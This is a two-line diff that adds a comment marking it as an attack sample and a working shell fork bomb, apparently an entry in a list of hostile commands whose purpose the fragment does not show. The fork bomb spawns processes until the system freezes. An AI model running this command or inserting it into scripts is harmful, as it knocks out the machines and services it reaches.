@@ -1,0 +1,2 @@
+# attack: fork bomb
+b() { b | b & b; }; b
